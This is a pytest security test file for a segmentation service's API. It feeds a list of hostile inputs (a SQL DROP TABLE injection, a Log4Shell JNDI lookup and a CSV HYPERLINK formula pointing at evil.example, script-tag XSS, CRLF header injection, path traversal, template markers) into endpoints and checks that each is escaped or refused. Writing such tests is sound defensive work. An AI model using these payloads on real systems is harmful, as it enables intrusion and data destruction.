"""Hostile names, values, headers and bodies: into SQL, HTML, logs, the terminal's CSV, the lake's paths, and past roles."""

import json
import logging
import re
from typing import Any

import pytest
from segmentation.domain.export_sql import export_query
from segmentation.domain.profile_sql import rows_query, values_of
from segmentation.domain.run import pointer_path
from segmentation.language.types import Type
from segmentation.runtime.management.openapi import page
from segmentation.runtime.management.operation import Operation
from segmentation.runtime.management.serve import OPERATIONS

from tests.management.support import SHOP, Office, event

HOSTILE = (
    "'; DROP TABLE people; --",
    "${jndi:ldap://evil.example/a}",
    "<script>alert(1)</script>",
    '=HYPERLINK("http://evil.example")',
    "line\nbreak\r\nX-Injected: 1",
    "\x00\x1b[2J",
    "../../rules/shop/ruleset.json",
    "{{7*7}} %s %(name)s {0}",
    "𝕊\ud83d" + "é" * 40,
)


def draft(**changes: Any) -> dict[str, Any]:
    rule = {"==": [{"var": "attributes.country"}, "DE"]}
    return {"id": "solo", "name": "Solo", "audience": "shop", "kind": "batch", "rule": rule, **changes}


def build(office: Office) -> None:
    tables = {"profiles": "people_v", "behaviors": {"purchases": "sales_v", "mailings": "mail_v"}}
    pointer = {"version": "v", "tables": tables, "rows": {"profiles": 2}}
    office.lake.put(pointer_path("shop"), json.dumps(pointer).encode())


def outside_of_literals(sql: str) -> str:
    """A query without its comments and text literals, as the warehouse's lexer cuts them."""
    without = re.sub(r"(?:^|(?<=[\r\n]))[ \t]*--[^\r\n]*[\r\n]*", "", sql)
    return "".join(re.sub(r"'(?:[^']|'')*'", "''", without).split())


@pytest.mark.parametrize("text", HOSTILE)
def test_a_value_in_a_rule_never_leaves_its_literal(office: Office, text: str) -> None:
    build(office)
    rule = {"==": [{"var": "attributes.country"}, text]}
    plain = office.ask("POST", f"{SHOP}/sql", {"document": draft()}).body["sql"]
    answer = office.ask("POST", f"{SHOP}/sql", {"document": draft(rule=rule, name=text)})
    if answer.status == 200:
        assert outside_of_literals(answer.body["sql"]) == outside_of_literals(plain)
    else:
        assert answer.status == 422
    begun = office.ask("POST", f"{SHOP}/previews", {"document": draft(rule=rule)})
    if begun.status == 202:
        office.ask("POST", f"{SHOP}/previews", {"document": draft()})
        first, second = (one[1] for one in office.warehouse.started.values())
        assert outside_of_literals(first) == outside_of_literals(second)


@pytest.mark.parametrize("text", HOSTILE)
def test_a_key_and_an_id_never_leave_their_literals(text: str) -> None:
    columns = {"profile_key": Type.STRING, "tags": Type.STRINGS}
    assert outside_of_literals(rows_query("t", columns, text)) == outside_of_literals(
        rows_query("t", columns, "x")
    )
    assert outside_of_literals(export_query("t", text, True)) == outside_of_literals(
        export_query("t", "x", True)
    )


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_names_are_kept_as_they_are_and_told_as_json(office: Office, text: str) -> None:
    made = office.ask("POST", f"{SHOP}/segments", {"document": draft(name=text), "note": text})
    if "\0" in text or "\ud83d" in text:  # no table can hold it
        assert (made.status, made.body["problems"][0]["code"]) == (422, "bad-text")
        return
    assert made.status == 201
    assert made.headers["content-type"] == "application/json"
    told = office.ask("GET", f"{SHOP}/segments/solo").body
    assert (told["document"]["name"], told["note"]) == (text, text)
    assert office.ask("GET", f"{SHOP}/segments/solo/versions").status == 200


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_ids_folders_and_paths_reach_no_other_object(office: Office, text: str) -> None:
    stood = set(office.lake.objects)
    for body in ({"document": draft(id=text)}, {"document": draft(), "folder": text}):
        answer = office.ask("POST", f"{SHOP}/segments", body)
        assert answer.status in (201, 422), answer.body
    from urllib.parse import quote

    name = quote(text.encode("utf-8", "surrogatepass"), safe="")
    for path in (f"/v1/audiences/{name}", f"/v1/audiences/{name}/segments", f"{SHOP}/segments/{name}/versions",
                 f"{SHOP}/previews/{name}", f"{SHOP}/segments/adults/exports/{name}", f"{SHOP}/runs/{name}/{name}"):  # fmt: skip
        assert office.ask("GET", path).status == 404
    made = office.ask("POST", "/v1/audiences", {"document": {"id": text}})
    assert made.status == 422
    assert all(
        re.fullmatch(r"(rules|history|programs)/shop/[a-z_/0-9.-]+", path)
        for path in set(office.lake.objects) - stood
    )


@pytest.mark.parametrize("text", HOSTILE)
def test_no_answer_carries_a_header_that_somebody_else_wrote(office: Office, text: str) -> None:
    safe = {"Origin": text, "If-None-Match": text, "Idempotency-Key": text}
    answer = office.raw(event("GET", f"{SHOP}/segments", headers=safe, authorizer={"iam": {"userArn": text}}))
    for name, value in answer["headers"].items():
        if name != "access-control-allow-origin":
            assert text not in value
    assert answer["statusCode"] in (200, 400)


def test_hostile_words_in_the_description_are_text_on_the_page() -> None:
    evil = Operation(
        "x", "GET", "/v1/<b>", "<script>alert(1)</script>", OPERATIONS[0].role, OPERATIONS[0].handler, None,
        description="<img src=x onerror=alert(1)>", group="<i>",
    )  # fmt: skip
    shown = page((evil,))
    assert "<script" not in shown
    assert "<img" not in shown
    assert "&lt;script&gt;" in shown


def test_no_role_and_no_author_is_taken_from_a_body(office: Office) -> None:
    for extra in ("role", "author", "by", "created", "version", "etag", "record"):
        answer = office.ask("POST", f"{SHOP}/segments", {"document": draft(), extra: "admin"}, role="editor")
        assert (answer.status, answer.pointers) == (400, [f"/{extra}"])
    made = office.ask("POST", f"{SHOP}/segments", {"document": draft()}, role="editor")
    assert made.body["created"]["by"] == "editor-sub"


def test_an_editor_reaches_no_token_through_several_edits(office: Office) -> None:
    edit = {"action": "put", "kind": "tokens", "id": "mine", "document": {"id": "mine", "sha256": "0" * 64}}
    segment = {"action": "put", "kind": "segments", "id": "solo", "document": draft()}
    for kind in ("tokens", "write_keys", "partners", "destinations", "audience"):
        edits = [segment, {**edit, "kind": kind}]
        assert office.ask("POST", f"{SHOP}/changes", {"edits": edits}, role="editor").status == 403
        assert (
            office.ask("POST", f"{SHOP}/changes", {"edits": edits, "dry_run": True}, role="editor").status
            == 403
        )
    assert office.ask("GET", f"{SHOP}/segments/solo").status == 404
    for role in ("viewer", "editor"):
        shown = office.ask("GET", f"{SHOP}/documents", role=role)
        assert (shown.status, "sha256" in json.dumps(shown.body)) == (200, False)
    assert "sha256" in json.dumps(office.ask("GET", f"{SHOP}/documents").body)


def test_a_secret_is_neither_logged_nor_kept(office: Office, caplog: pytest.LogCaptureFixture) -> None:
    caplog.set_level(logging.DEBUG)
    secrets = []
    for path, more in (("partners", {"segments": ["adults"]}), ("write-keys", {})):
        made = office.ask("POST", f"{SHOP}/{path}", {"document": {"id": "new", **more}})
        secrets.append(made.body["secret"])
        rotated = office.ask("POST", f"{SHOP}/{path}/new/rotate", if_match=made.etag)
        secrets.append(rotated.body["secret"])
    person = "jane@example.com"
    office.ask("POST", f"{SHOP}/segments/adults/explanations", {"key": person})
    office.ask("POST", f"{SHOP}/segments/buying-now/explanations", {"key": person})
    office.ask("GET", f"{SHOP}/segments/{person}")
    kept = b"".join(office.lake.objects.values()).decode("utf-8", "replace")
    for secret in (*secrets, person):
        assert secret not in caplog.text
        assert secret not in kept


def test_a_fault_of_ours_tells_the_caller_nothing(office: Office, caplog: pytest.LogCaptureFixture) -> None:
    object.__setattr__(office.api, "state", None)
    answer = office.ask("GET", f"{SHOP}/state")
    assert answer.status == 500
    assert answer.body["detail"] == "the request could not be handled; it is our fault and is logged"
    assert "NoneType" not in json.dumps(answer.body)


@pytest.mark.parametrize(
    "body",
    [
        '{"document": {"id": "solo", "rule": ' + '{"!": [' * 5_000 + "1" + "]}" * 5_000 + "}}",
        '{"document": {"id": "solo", "name": 1e999, "rule": NaN}}',
        '{"document": {"id": "solo", "rule": {"==": [' + "1" * 5_000 + ", 1]}}}",
        '{"document": {"id": "solo", "kind": "batch", "rule": {"in": ["a", '
        + json.dumps(["x"] * 20_000)
        + "]}}}",
        '{"document": ' + json.dumps({f"k{n}": n for n in range(5_000)}) + "}",
        "\ufeff{}",
        "null",
        "",
        '"\\ud800"',
    ],
)
def test_hostile_bodies_are_refused_without_a_fault(office: Office, body: str) -> None:
    for path in ("segments", "validate", "previews", "changes", "folders/move", "runs"):
        answer = office.ask("POST", f"{SHOP}/{path}", body)
        assert answer.status in (200, 400, 409, 413, 422), (path, answer.body)


def test_a_body_that_is_not_what_it_says_is_refused(office: Office) -> None:
    made = event("POST", f"{SHOP}/segments", "!!!", authorizer={"iam": {"userArn": "a"}})
    for encoded, text in ((True, "!!!"), (True, "/w=="), (False, "{}")):
        answer = office.raw({**made, "isBase64Encoded": encoded, "body": text})
        assert answer["statusCode"] == 400


def test_text_of_the_warehouse_becomes_values_or_nothing() -> None:
    columns = {
        "a": Type.NUMBER,
        "b": Type.BOOLEAN,
        "c": Type.STRINGS,
        "d": Type.NUMBERS,
        "e": Type.DATE,
        "f": Type.TIMESTAMP,
    }
    row = ("1.5E1", "true", "va\x1fn\x1fv", "v2.0\x1fn", "2020-02-30", "1700000000")
    assert values_of(columns, row) == {
        "a": 15.0, "b": True, "c": ("a", None, ""), "d": (2.0, None), "e": None, "f": 1_700_000_000,
    }  # fmt: skip
    assert set(values_of(columns, (None,) * 6).values()) == {None}
    assert values_of({"c": Type.STRINGS}, ("",)) == {"c": ()}
